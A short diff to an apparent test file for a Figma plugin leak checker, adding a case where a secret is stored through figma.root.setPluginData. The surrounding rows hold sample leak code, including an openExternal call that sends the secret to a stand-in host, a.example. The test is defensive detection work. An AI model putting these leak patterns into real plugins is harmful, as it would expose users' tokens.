@@ -12,6 +12,7 @@ describe('a secret', () => {
     [`figma.openExternal('https://a.example/?t=${SECRET}')`, 'open: '],
     [`figma.createFrame().name = '${SECRET}'`, 'document: '],
     [`figma.createFrame().setPluginData('token', '${SECRET}')`, 'document: '],
+    [`figma.root.setPluginData('token', '${SECRET}')`, 'document: '],
     [`figma.currentPage.setSharedPluginData('ours', 'token', '${SECRET}')`, 'document: '],
   ])('row 51 · is found where %s leaves it', async (code, where) => {
     const { figma } = await openFigma({ code, command: 'create' });
